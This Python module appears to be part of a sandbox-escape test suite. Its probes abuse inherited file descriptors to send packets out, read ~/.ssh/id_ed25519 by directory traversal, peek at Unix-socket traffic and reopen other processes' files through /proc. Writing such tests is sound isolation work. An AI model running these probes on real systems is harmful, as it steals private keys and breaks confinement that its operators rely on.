"""What the kernel inherited: descriptors that lead out, whoever opened them."""

from __future__ import annotations

import os
import socket
import stat
from contextlib import suppress

from .base import Judge, Target, attack


def _open() -> list[tuple[int, int]]:
    """Descriptors and their file types, of this process and of the parents that can be seen."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            found.append((int(name), os.fstat(int(name)).st_mode))
    return found


@attack(Judge.PACKET, "every inherited socket, connected anew")
def sockets(target: Target) -> str:
    said = []
    for number, mode in _open():
        if stat.S_ISSOCK(mode):
            with suppress(OSError), socket.socket(fileno=os.dup(number)) as end:
                if end.family in {socket.AF_INET, socket.AF_INET6}:
                    end.settimeout(1)
                    said.append(f"{number}: {end.getsockname()} {end.connect_ex((target.public, 443))}")
                    end.sendto(b"out", (target.public, 9999))
    return str(said)


@attack(Judge.SECRET, "every inherited folder, and up from there", secret="ssh")
def directories(target: Target) -> bytes:
    found = b""
    for number, mode in _open():
        if stat.S_ISDIR(mode):
            for path in ("../" * 12 + target.world.home.lstrip("/"), "."):
                with suppress(OSError):
                    end = os.open(f"{path}/.ssh/id_ed25519", os.O_RDONLY, dir_fd=number)
                    found += os.read(end, 500)
    return found


@attack(Judge.SECRET, "every inherited socket with a path, asked for what others sent", secret="none")
def received(_: Target) -> bytes:
    found = b""
    for number, mode in _open():
        if stat.S_ISSOCK(mode):
            with suppress(OSError), socket.socket(fileno=os.dup(number)) as end:
                if end.family == socket.AF_UNIX and not end.getsockname():
                    end.setblocking(False)
                    found += end.recv(1000, socket.MSG_PEEK)
    return found


@attack(Judge.SECRET, "every descriptor opened again by /proc, of all processes", secret="descriptor")
def again(_: Target) -> bytes:
    found = b""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/fd"):
                with suppress(OSError):
                    path = f"/proc/{pid}/fd/{name}"
                    if stat.S_ISREG(os.stat(path).st_mode) and "decoy" in os.readlink(path):
                        found += os.read(os.open(path, os.O_RDONLY), 300)
    return found


@attack(Judge.SURFACE, "an inherited descriptor of another network, by what it is bound to")
def foreign(_: Target) -> str:
    """Listeners that were made for this kernel must not be inherited by it."""
    found = []
    for number, mode in _open():
        if stat.S_ISSOCK(mode):
            with suppress(OSError), socket.socket(fileno=os.dup(number)) as end:
                if end.family != socket.AF_UNIX and end.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                    found.append(end.getsockname())
    return f"errno {0 if [each for each in found if each[1] < 1024 or each[1] == 3128] else 1}: {found}"
